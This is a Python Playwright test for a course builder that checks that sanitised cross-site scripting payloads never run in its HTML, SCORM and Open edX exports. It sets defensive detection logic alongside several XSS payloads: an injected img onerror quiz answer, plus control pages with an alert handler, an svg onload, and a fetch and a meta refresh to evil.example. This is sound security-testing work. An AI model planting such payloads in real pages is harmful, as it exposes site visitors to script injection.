"""Every SANITISED payload, in every place an author can write, loaded in Chromium in every
format that shows pages: nothing runs, no request leaves the package (issue 13).

One course holds them all (``tests/xss_payloads.py``), in English and German; it is built once
per test session (``tests/test_xss.py`` checks the same build statically). Then, for each
language:

- the HTML preview: every page (home, module, lessons with their quizzes) from ``file://``;
- the SCORM 1.2 and SCORM 2004 module packages, unpacked on the test LMS's server and played
  in its iframe with scorm-again as the API, page after page;
- the OLX export: each unit's ``html/`` and ``problem/`` fragments, and the about pages, in a
  minimal page (Open edX shows those fragments inside its own page; like it, ``/static/``
  URLs are pointed at the course's files);
- every SVG picture of each, opened on its own (on the package's origin, where it would run).

On each page the test listens for dialogs, records every request (those leaving the package
are aborted), then hovers over the text, tabs through it, fires every kind of event at every
element, answers and checks every quiz question, shows the reviewer's view, and asserts: no
dialog, no marker (``window.__pwned``, the document title changed to ``PWNED`` or from what
the builder wrote), no request outside the package, no new window, no navigation, no script
error.
"""

import re
import tarfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from lxml import etree, html
from playwright.sync_api import Browser, BrowserContext, Dialog, Frame, Page, ViewportSize
from playwright.sync_api import Error as PlaywrightError

from bwise_mooc.validate import safe_parser
from tests.browser.scorm_lms import Lms, LmsServer
from tests.test_xss import SanitisedBuild, build_sanitised
from tests.xss_payloads import MARKER_TITLE, Place, sanitised

pytestmark = pytest.mark.browser

LANGUAGES = ("en", "de")
HOVER_SCREENS = 3
VIEWPORT: ViewportSize = {"width": 1100, "height": 800}
# Fire every kind of event at every element: an event handler that survived would run.
SWEEP = """() => {
  const names = ["click", "dblclick", "auxclick", "contextmenu", "mousedown", "mouseup",
    "mouseover", "mouseout", "mouseenter", "mouseleave", "mousemove", "pointerdown",
    "pointerup", "pointerover", "pointerenter", "pointerleave", "pointermove", "focus", "blur",
    "focusin", "focusout", "keydown", "keyup", "keypress", "input", "change", "select",
    "toggle", "load", "error", "abort", "animationstart", "animationend", "animationiteration",
    "transitionend", "begin", "beginEvent", "end", "start", "finish", "scroll", "wheel",
    "copy", "cut", "paste", "drag", "dragstart", "drop", "touchstart", "play", "canplay",
    "loadstart", "invalid", "reset", "search", "show", "beforetoggle"];
  const all = document.querySelectorAll("*");
  for (const element of all) {
    for (const name of names) element.dispatchEvent(new Event(name, { bubbles: false }));
    if (element.tagName === "DETAILS") element.open = true;
  }
  return all.length;
}"""
# Answer every question (the first choice, or a typed answer) and press its Check button.
ANSWER = """() => {
  let count = 0;
  for (const form of document.querySelectorAll("form.question")) {
    const input = form.querySelector("input:not([disabled])");
    const button = form.querySelector("button[type=submit]");
    if (!input || !button || button.hidden) continue;
    if (input.type === "text") {
      input.value = "<img src=x onerror=window.top.__pwned=1>";
      input.dispatchEvent(new Event("input", { bubbles: true }));
    } else {
      input.checked = true;
      input.dispatchEvent(new Event("change", { bubbles: true }));
    }
    button.click();
    count += 1;
  }
  return count;
}"""
MARKERS = """() => {
  const found = [];
  const look = (where, w) => {
    try { if (w.__pwned) found.push(where + ".__pwned"); } catch (e) {}
    try { if (w.document.title === "PWNED") found.push(where + " title PWNED"); } catch (e) {}
  };
  look("window", window);
  look("parent", window.parent);
  look("top", window.top);
  return { found, title: document.title, url: location.href };
}"""


def collapse(text: str) -> str:
    """Whitespace as ``document.title`` collapses it (ASCII whitespace only)."""
    return re.sub(r"[ \t\n\f\r]+", " ", text).strip(" \t\n\f\r")


def html_title(data: bytes) -> str:
    titles = html.document_fromstring(data).xpath("//title")
    return collapse(titles[0].text_content()) if titles else ""


def svg_title(data: bytes) -> str:
    root = etree.fromstring(data, safe_parser())
    title = root.find("{http://www.w3.org/2000/svg}title")
    return collapse("".join(title.itertext())) if title is not None else ""


@dataclass
class Visits:
    """A browser context for one format: every dialog, request, error and window it saw."""

    context: BrowserContext
    allowed: str  # the package's own URLs start with this
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    found: list[str] = field(default_factory=list)  # markers, titles, navigations
    pages: list[str] = field(default_factory=list)  # the pages opened, for the report
    answered: int = 0  # quiz questions answered and checked
    windows: int = 0

    def __post_init__(self) -> None:
        self.context.route(lambda url: not self.inside(url), lambda route: route.abort())
        self.context.on("request", lambda request: self.requests.append(request.url))
        self.context.on("page", self._on_page)

    def inside(self, url: str) -> bool:
        return url.startswith(self.allowed)

    def _on_page(self, page: Page) -> None:
        self.windows += 1
        page.on("dialog", self._on_dialog)
        page.on("pageerror", lambda error: self.errors.append(f"{page.url}: {error}"))

    def _on_dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def new_page(self) -> Page:
        return self.context.new_page()

    @contextmanager
    def watching(self, url: str) -> Iterator[None]:
        """Count ``url`` as shown; a page that navigates away (or breaks) while it is used
        is a finding, not a crash of the test."""
        self.pages.append(url)
        try:
            yield
        except PlaywrightError as error:
            self.found.append(f"{url}: {error.message.splitlines()[0]}")

    def check(self, target: Page | Frame, url: str, title: str | None) -> None:
        """Look for the markers in ``target`` (and in the windows above it)."""
        seen = target.evaluate(MARKERS)
        self.found.extend(f"{url}: {marker}" for marker in seen["found"])
        if title is not None and collapse(seen["title"]) != title:
            self.found.append(f"{url}: title {seen['title']!r}, not {title!r}")
        if seen["title"] == MARKER_TITLE:
            self.found.append(f"{url}: title {seen['title']!r}")
        if seen["url"].split("#")[0] != url.split("#")[0]:
            self.found.append(f"{url}: went to {seen['url']}")

    def outside(self) -> list[str]:
        return [url for url in self.requests if not self.inside(url)]


def exercise(page: Page, target: Page | Frame) -> int:
    """Use the page as a learner and a reviewer would, then fire every event everywhere;
    return how many questions were answered."""
    height = target.evaluate("() => document.documentElement.scrollHeight")
    viewport = page.viewport_size or {"width": 1100, "height": 800}
    for step in range(HOVER_SCREENS):  # the mouse over the text, at a few places down the page
        target.evaluate(f"() => window.scrollTo(0, {height * step // HOVER_SCREENS})")
        y = viewport["height"] * (step + 1) / (HOVER_SCREENS + 1)
        page.mouse.move(10, y)
        page.mouse.move(viewport["width"] - 10, y, steps=3)
    for _ in range(6):
        page.keyboard.press("Tab")
    toggle = target.locator("#review-toggle")
    if toggle.count() and toggle.is_visible():
        toggle.click()
    answered: int = target.evaluate(ANSWER)
    target.evaluate(SWEEP)
    page.wait_for_timeout(80)  # time for a refresh, an image error, an animation
    return answered


def open_page(visits: Visits, page: Page, url: str, title: str | None) -> None:
    with visits.watching(url):
        page.goto(url)
        page.wait_for_load_state("load")
        visits.answered += exercise(page, page)
        visits.check(page, url, title)


def open_picture(visits: Visits, page: Page, url: str, data: bytes) -> None:
    """An SVG opened on its own, as "open image in new tab" does."""
    with visits.watching(url):
        page.goto(url)
        page.wait_for_load_state("load")
        page.evaluate(SWEEP)
        page.wait_for_timeout(50)
        visits.check(page, url, svg_title(data))


@dataclass
class Proof:
    """What one format showed: the pages opened and everything that should not have been."""

    name: str
    pages: list[str]
    answered: int
    dialogs: list[str]
    outside: list[str]
    errors: list[str]
    found: list[str]
    windows: int


def finish(name: str, visits: Visits) -> Proof:
    visits.context.close()
    return Proof(
        name,
        visits.pages,
        visits.answered,
        visits.dialogs,
        visits.outside(),
        visits.errors,
        visits.found,
        visits.windows - 1,  # the one page the test opened
    )


# ---- the formats -------------------------------------------------------------------------------


def format_dir(out: Path, language: str, name: str) -> Path:
    return out / name if language == "en" else out / language / name


def prove_preview(browser: Browser, out: Path, language: str) -> Proof:
    site = format_dir(out, language, "html")
    visits = Visits(browser.new_context(viewport=VIEWPORT), site.as_uri() + "/")
    page = visits.new_page()
    for path in sorted(site.rglob("*.html")):
        open_page(visits, page, path.as_uri(), html_title(path.read_bytes()))
    for path in sorted(site.rglob("*.svg")):
        open_picture(visits, page, path.as_uri(), path.read_bytes())
    return finish(f"preview ({language})", visits)


def prove_scorm(
    browser: Browser, lms_server: LmsServer, out: Path, language: str, version: str
) -> Proof:
    folder = format_dir(out, language, "scorm12" if version == "1.2" else "scorm2004")
    package = next(p for p in sorted(folder.glob("*.zip")) if p.stem.count("xss") == 2)
    base = lms_server.install(f"xss-{version}-{language}", package)
    # the LMS page and scorm-again come from the LMS's own server too
    context = browser.new_context(viewport=VIEWPORT)
    visits = Visits(context, lms_server.url + "/")
    page = visits.new_page()
    with zipfile.ZipFile(package) as archive:
        names = archive.namelist()
        scos = [name for name in names if name.endswith("/index.html")]
        for sco in scos:
            url = f"{base}/{sco}"
            frame = Lms(page, lms_server).launch(version, url)
            title = html_title(archive.read(sco))
            total = int(frame.locator("#sco-position").inner_text().split()[-1])
            for number in range(1, total + 1):
                with visits.watching(f"{url} (page {number} of {total})"):
                    visits.answered += exercise(page, frame)
                    visits.check(frame, url, title)
                    following = frame.locator("#sco-next")
                    if following.is_visible() and following.is_enabled():
                        following.click()
            visits.check(page, f"{lms_server.url}/lms.html", "Test LMS")
        for name in names:
            if name.endswith(".svg"):
                open_picture(visits, page, f"{base}/{name}", archive.read(name))
    return finish(f"SCORM {version} ({language})", visits)


UNIT_PAGE = """<!doctype html>
<html lang="{language}"><head><meta charset="utf-8"><title>Open edX unit</title></head>
<body><main>
{body}
</main></body></html>
"""


def olx_pages(root: Path, language: str) -> Iterator[Path]:
    """One page per unit, its components in order, and one of the about pages."""
    for vertical in sorted((root / "vertical").glob("*.xml")):
        parts = []
        for child in etree.parse(str(vertical), safe_parser()).getroot():
            name = child.get("url_name")
            if child.tag == "html":
                pointer = etree.parse(str(root / "html" / f"{name}.xml"), safe_parser())
                filename = pointer.getroot().get("filename")
                parts.append((root / "html" / f"{filename}.html").read_text("utf-8"))
            elif child.tag == "problem":
                text = (root / "problem" / f"{name}.xml").read_text("utf-8")
                parts.append(re.sub(r"^<\?xml[^>]*\?>", "", text))
        yield _olx_page(root, f"unit-{vertical.stem}", parts, language)
    about = [p.read_text("utf-8") for p in sorted((root / "about").glob("*.html"))]
    yield _olx_page(root, "about", about, language)


def _olx_page(root: Path, name: str, parts: list[str], language: str) -> Path:
    body = "\n".join(parts).replace('"/static/', '"static/')  # as Open edX rewrites them
    page = root / f"_{name}.html"
    page.write_text(UNIT_PAGE.format(language=language, body=body), encoding="utf-8")
    return page


def prove_olx(browser: Browser, out: Path, language: str, folder: Path) -> Proof:
    archive = next(format_dir(out, language, "olx").glob("*.tar.gz"))
    with tarfile.open(archive) as tar:
        tar.extractall(folder, filter="data")
    root = next(p for p in folder.iterdir() if (p / "course.xml").is_file())
    visits = Visits(browser.new_context(viewport=VIEWPORT), root.as_uri() + "/")
    page = visits.new_page()
    for path in olx_pages(root, language):
        open_page(visits, page, path.as_uri(), "Open edX unit")
    for path in sorted((root / "static").glob("*.svg")):
        open_picture(visits, page, path.as_uri(), path.read_bytes())
    return finish(f"OLX ({language})", visits)


# ---- the proof ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> SanitisedBuild:
    found = build_sanitised(tmp_path_factory)
    assert found.stray == [], "\n".join(d.text for d in found.stray)
    assert found.exit_code == 0, found.output[-3000:]
    return found


def test_no_payload_runs_in_any_format(
    built: SanitisedBuild,
    browser: Browser,
    lms_server: LmsServer,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    """One test, so that the course is shown once however the tests are spread on workers."""
    proofs = []
    for language in LANGUAGES:
        proofs.append(prove_preview(browser, built.out, language))
        for version in ("1.2", "2004"):
            proofs.append(prove_scorm(browser, lms_server, built.out, language, version))
        olx = tmp_path_factory.mktemp(f"olx-{language}")
        proofs.append(prove_olx(browser, built.out, language, olx))
    failures = {
        proof.name: {
            what: found
            for what, found in (
                ("dialogs", proof.dialogs),
                ("markers", proof.found),
                ("requests outside the package", proof.outside),
                ("new windows", proof.windows),
                ("script errors", proof.errors),
            )
            if found
        }
        for proof in proofs
    }
    assert {name: found for name, found in failures.items() if found} == {}
    pages = {proof.name: len(proof.pages) for proof in proofs}
    assert len(pages) == 8 and all(count >= 5 for count in pages.values()), pages
    questions = len(sanitised(Place.CHOICE))  # one knowledge check or assessment question each
    answered = {proof.name: proof.answered for proof in proofs if "OLX" not in proof.name}
    assert all(count >= questions for count in answered.values()), answered


CONTROLS = {  # a page where a payload runs, and what the proof must see
    "dialog": ("<p onmouseover=\"alert('XSS')\">Hover me</p>", "dialogs"),
    "marker": ("<img src=x onerror='window.top.__pwned=1'>", "found"),
    "title": ("<svg onload=\"document.title='PWNED'\"></svg>", "found"),
    "request": ("<script>fetch('https://evil.example/x')</script>", "outside"),
    "leave": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "outside"),
    "script": ("<script>undefinedFunction()</script>", "errors"),
}


def test_the_proof_sees_a_payload_that_runs(browser: Browser, tmp_path: Path) -> None:
    """The checks above fail when a payload gets through."""
    for name, (payload, seen) in CONTROLS.items():
        page_file = tmp_path / f"{name}.html"
        page_file.write_text(f"<!doctype html><title>T</title><main>{payload}</main>", "utf-8")
        visits = Visits(browser.new_context(viewport=VIEWPORT), tmp_path.as_uri() + "/")
        open_page(visits, visits.new_page(), page_file.as_uri(), "T")
        proof = finish(name, visits)
        assert getattr(proof, seen), (name, proof)
